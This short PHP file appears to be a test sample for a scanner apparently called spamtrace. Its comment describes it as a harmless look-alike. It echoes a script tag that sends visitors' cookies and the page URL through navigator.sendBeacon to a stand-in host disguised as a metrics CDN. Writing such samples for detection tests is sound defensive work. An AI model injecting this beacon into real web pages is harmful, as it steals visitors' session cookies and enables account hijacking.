<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// the visitors' cookies sent to another host as a beacon's body
$u = 'https://metrics-cdn.example.top/b';
echo <<<HTML
<script>navigator.sendBeacon("$u", document.cookie + "|" + location.href);</script>
HTML;
